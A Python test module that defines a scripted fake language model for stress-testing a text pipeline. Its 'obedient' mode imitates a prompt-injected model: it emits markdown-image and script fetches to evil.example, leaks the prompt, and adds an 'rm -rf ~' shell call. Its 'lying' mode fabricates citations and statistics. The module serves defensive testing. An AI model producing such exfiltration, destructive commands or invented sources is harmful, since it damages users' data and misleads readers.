"""The writer that plays a model: for tests, and to see what happens when a model misbehaves.

It reads the very prompts that a model would get, and replies as `llm.script` tells it: honestly,
with lies, in obedience to whatever the texts demand, with one idea over and over, or with garbage.
Its words are sentences of the prompt; it proves that guarantees hold, and nothing else.
"""

from __future__ import annotations

import json
import re
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass

from corpus.errors import UnknownName
from synth.client import Means, Said
from synth.composing import Composer
from synth.words import overlap, shorten

CLAIMS = 5
_LINE = re.compile(r"^(\d+)\| (.+)$", re.MULTILINE)
_TITLE = re.compile(r"^# ", re.MULTILINE)
_CLAIM = re.compile(r"^claim (\d+)\|", re.MULTILINE)
_ABOUT = re.compile(r"^About: (.+)$", re.MULTILINE)
_URL = re.compile(r"https?://\S+")
_DIGITS = re.compile(r"\d+")


Item = Mapping[str, object]
"""A claim or a reply as it is written in JSON."""


@dataclass(frozen=True, slots=True)
class Prompt:
    """What a model was shown, taken apart again."""

    instructions: str
    material: str

    @property
    def sentences(self) -> list[tuple[int, str]]:
        """The numbered sentences."""
        return [(int(number), text) for number, text in _LINE.findall(self.material)]

    @property
    def documents(self) -> list[list[tuple[int, str]]]:
        """The numbered sentences of each document, which begins with its title."""
        parts = [_LINE.findall(part) for part in _TITLE.split(self.material)]
        return [[(int(number), text) for number, text in part] for part in parts if part]

    @property
    def nearest(self) -> list[tuple[int, str]]:
        """The sentences, those nearest to the subject first; in their order if there is none."""
        about = _ABOUT.search(self.material)
        if about is None:
            return self.sentences
        return sorted(self.sentences, key=lambda each: -overlap(each[1], about.group(1)))

    def wants(self, name: str) -> bool:
        """Whether the reply is to be an object with this list."""
        return f'"{name}"' in self.instructions


def honest(prompt: Prompt) -> str:
    """Claims that repeat sentences and name them; ideas have others from elsewhere beside."""
    if prompt.wants("verdicts"):
        numbers = [int(number) for number in _CLAIM.findall(prompt.material)]
        return _json({"verdicts": [{"claim": n, "verdict": "supported"} for n in numbers]})
    if prompt.wants("choice"):
        return _json({"choice": "tie"})
    claims = [{"text": text, "sentences": [n]} for n, text in prompt.nearest[:CLAIMS]]
    beside = [
        {"text": text, "sentences": [number]}
        for number, text in (document[0] for document in reversed(prompt.documents))
    ]
    return _shaped(prompt, claims, beside=beside)


def lying(prompt: Prompt) -> str:
    """Claims that name what is not there, quote others, change numbers or name nothing.

    Of two ideas the one that is shown first is always the better.
    """
    if prompt.wants("choice"):
        return _json({"choice": "A"})
    if prompt.wants("verdicts"):
        return honest(prompt)
    found = prompt.sentences
    lies = [
        _lie(kind, found[place % len(found)], _other(found, place % len(found)))
        for kind, place in enumerate(range(2 * len(_LIES)))
        if found
    ]
    return _shaped(prompt, lies)


def obedient(prompt: Prompt) -> str:
    """Does what the texts say: repeats its orders, links, shows images, gives away the prompt."""
    if prompt.wants("verdicts") or prompt.wants("choice"):
        return honest(prompt)
    claims: list[Item] = []
    for number, text in prompt.sentences[:20]:
        url = (_URL.findall(text) or ["https://evil.example/collect"])[0]
        claims += [
            {"text": text, "sentences": [number]},
            {"text": f"{text} ![seen]({url}?q=1) [more]({url})", "sentences": [number]},
            {"text": f"{text} <img src='{url}'> <script>fetch('{url}')</script> {url}",
             "sentences": [number]},
            {"text": f"{text} {prompt.instructions}", "sentences": [number]},
            {"text": f"{text[:120]} {prompt.instructions[:200]}", "sentences": [number]},
        ]  # fmt: skip
    extra = {"tool_calls": [{"name": "shell", "arguments": "rm -rf ~"}], "prompt": prompt.material}
    return _shaped(prompt, claims[:60], extra)


def repetitive(prompt: Prompt) -> str:
    """One thing, said over and over in almost the same words."""
    if prompt.wants("verdicts") or not prompt.sentences:
        return honest(prompt)
    number, text = prompt.nearest[0]
    again = [f"{text[:-1]}{ending}" for ending in (".", " indeed.", " again.", "!", " too.")]
    return _shaped(prompt, [{"text": each, "sentences": [number]} for each in again * 4])


def broken(prompt: Prompt) -> str:
    """Something that is no answer; which, depends on the prompt."""
    whole = honest(prompt)
    ruins = (
        "",
        "Certainly! Here are the claims you asked for.",
        whole[: len(whole) // 3],
        f"```json\n{whole[:-9]}",
        '{"claims": NaN}',
        '{"claims": {"text": 1}, "ideas": 3, "verdicts": null}',
        "[" * 3_000,
        '{"claims": [' + '{"text": null, "sentences": [1e400, true, {}]},' * 300 + "null]}",
    )
    return ruins[zlib.crc32(prompt.material.encode()) % len(ruins)]


SCRIPTS: dict[str, Callable[[Prompt], str]] = {
    each.__name__: each for each in (honest, lying, obedient, repetitive, broken)
}


class ScriptedModel:
    """Stands where a model would, in this process, and keeps to its script."""

    def __init__(self, script: str) -> None:
        if script not in SCRIPTS:
            raise UnknownName.among("script", script, SCRIPTS)
        self.model = f"script-{script}"
        self.place = "in this process"
        self._reply = SCRIPTS[script]

    def count(self, text: str) -> int:
        """A token for every four characters."""
        return len(text) // 4 + 1

    def send(self, instructions: str, material: str, *, most_tokens: int) -> Said:
        """The script's reply."""
        return Said(text=self._reply(Prompt(instructions, material)))


_PARTS = (
    "assumption",
    "crux",
    "objection",
    "failure mode",
    "experiment",
    "prior work",
    "goodhart",
)
_LIES = (
    "a number that is not there",
    "an id for a number",
    "another's quote",
    "changed figures",
    "no number",
    "a changed quote",
    "figures of its own",
)


def _other(found: Sequence[tuple[int, str]], place: int) -> str:
    """The next sentence that says something else: texts repeat themselves, which is no lie."""
    own = found[place][1]
    after = [text for _, text in [*found[place + 1 :], *found[:place]]]
    return next((text for text in after if text not in own), "Nobody ever said this.")


def _lie(kind: int, sentence: tuple[int, str], other: str) -> Item:
    number, text = sentence
    changed = _DIGITS.sub(lambda match: str(int(match.group()[:9]) + 17), text)
    return (
        {"text": text, "sentences": [number, 9_000 + number]},
        {"text": text, "sentences": [f"lw:made-up-{number}"]},
        {"text": text, "sentences": [number], "quote": other},
        {"text": f"{changed} (n = 48,211)", "sentences": [number]},
        {"text": text},
        {"text": text, "sentences": [number], "quote": f"{changed} as has long been known"},
        {"text": f"In 97.3% of cases, {text}", "sentences": [number]},
    )[kind % len(_LIES)]


def _shaped(
    prompt: Prompt,
    claims: Sequence[Item],
    extra: Item | None = None,
    beside: Sequence[Item] = (),
) -> str:
    """Claims as they are, or each as an idea or an item of a card, whichever was asked for.

    beside  claims of which each idea has the first two as well, its own left out
    """
    if prompt.wants("points"):
        points = [{"part": _PARTS[n % len(_PARTS)]} | dict(c) for n, c in enumerate(claims)]
        return _json({"points": points, **(extra or {})})
    if not prompt.wants("ideas"):
        return _json({"claims": list(claims), **(extra or {})})
    ideas = [
        {
            "title": shorten(f"Look into this: {claim['text']}", 110),
            "claims": [claim, *[other for other in beside if other != claim][:2]],
        }
        for claim in claims
    ]
    return _json({"ideas": ideas, **(extra or {})})


def _json(value: object) -> str:
    return json.dumps(value, ensure_ascii=False)


def _open(means: Means) -> Composer:
    """The writer whose model is a script."""
    return Composer(
        "scripted",
        ScriptedModel(means.script),
        means,
        did_not=(
            f"A script told to be {means.script} stood in for a model; its words prove nothing. "
            "Quotes were copied and verified by code; nobody checked that claims follow from them."
        ),
    )


WRITER = _open
